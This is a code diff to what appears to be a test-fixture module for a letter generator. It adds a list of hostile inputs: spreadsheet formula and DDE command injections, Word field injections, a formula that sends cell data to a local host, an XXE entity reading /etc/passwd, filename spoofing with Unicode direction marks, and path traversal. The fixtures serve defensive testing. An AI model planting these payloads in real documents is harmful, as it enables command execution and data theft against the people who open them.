@@ -15,11 +15,31 @@ export const hostileTexts: readonly string[] = [
   '漢字かな한글 Ωμέγα Ж',
 ];
 
-const short = hostileTexts.filter((text) => text.length < 200);
+/** What a letter made for harm says in its subject, and what would act on it: sheets, Word, terminals, screens. */
+export const hostileSources: readonly string[] = [
+  '=HYPERLINK("http://127.0.0.1:9/?"&A1,"เปิด")',
+  "+cmd|'/c calc'!A1",
+  "-2+3+cmd|' /C notepad'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\u202eexe.fdp\u202c ใบปะหน้า\u2066แยก\u2069',
+  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
+  '</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "http://127.0.0.1:9/a.png"</w:instrText></w:r><w:r><w:t>',
+  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  '"/><Relationship Id="r" TargetMode="External" Target="http://127.0.0.1:9"/>',
+  '＝1+1 ＠x \u200b=2',
+  '../../../etc/passwd',
+];
+
+const shortOf = (texts: readonly string[]) => texts.filter((text) => text.length < 200);
 const [emoji = '', longWord = '', link = '', longSubject = ''] = hostileTexts;
 
 /** Every text stands in the body, every field holds some of the worst. */
-export function hostileContent(sample: LetterContent): Partial<LetterContent> {
+export function hostileContent(
+  sample: LetterContent,
+  texts: readonly string[] = hostileTexts,
+): Partial<LetterContent> {
+  const short = shortOf(texts);
   const text = (kind: 'paragraph' | 'item', words: string): BodyBlock => ({
     kind,
     text: words,
@@ -43,7 +63,7 @@ export function hostileContent(sample: LetterContent): Partial<LetterContent> {
     subject: longSubject,
     addressee: `${several} ${link}`,
     body: [
-      ...hostileTexts.map((words) => text('paragraph', words)),
+      ...texts.map((words) => text('paragraph', words)),
       ...short.map((words) => text('item', words)),
       table,
     ],
